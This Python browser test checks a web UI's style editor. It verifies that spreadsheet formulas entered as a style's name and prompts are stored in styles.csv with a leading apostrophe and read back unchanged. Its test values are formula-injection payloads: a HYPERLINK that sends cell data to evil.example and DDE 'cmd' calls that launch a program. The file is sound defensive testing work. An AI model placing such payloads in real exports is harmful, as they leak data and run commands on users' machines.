"""Attacks whose target is the UI in the browser (issue "safe to expose", class 11): a style saved from the style
editor with spreadsheet formulas in its name and prompts is written neutralised to `styles.csv` and shows
unchanged in the UI after a restart."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest

from tests.acceptance.conftest import WebUIFactory, open_ui
from tests.browser.conftest import fill_text

pytestmark = pytest.mark.browser

NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
PROMPT = "+cmd|' /C calc'!A0, {prompt}"
NEGATIVE = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_style_editor_neutralises_spreadsheet_formulas(webui_app: WebUIFactory, browser: Any) -> None:
    app = webui_app(["--api"], checkpoints={})
    page = open_ui(browser, app.url)
    page.click("#txt2img_styles_edit_button")
    fill_text(page, "txt2img_edit_style_name", NAME)
    fill_text(page, "txt2img_edit_style_prompt", PROMPT)
    fill_text(page, "txt2img_edit_style_neg_prompt", NEGATIVE)
    page.click("#txt2img_edit_style_save")
    styles = Path(app.data_dir) / "styles.csv"
    for _ in range(100):
        if styles.exists() and "HYPERLINK" in styles.read_text(encoding="utf-8"):
            break
        page.wait_for_timeout(100)
    rows = list(csv.reader(io.StringIO(styles.read_text(encoding="utf-8"))))
    saved = next(row for row in rows if "HYPERLINK" in row[0])
    assert saved[:3] == ["'" + NAME, "'" + PROMPT, "'" + NEGATIVE], saved  # a spreadsheet shows them as text
    page.close()
    again = webui_app(["--api"], checkpoints={}, data_dir=app.data_dir)  # read back by a fresh start
    listed = {style["name"]: style for style in again.client.get("/sdapi/v1/prompt-styles").json()}
    assert listed[NAME]["prompt"] == PROMPT and listed[NAME]["negative_prompt"] == NEGATIVE
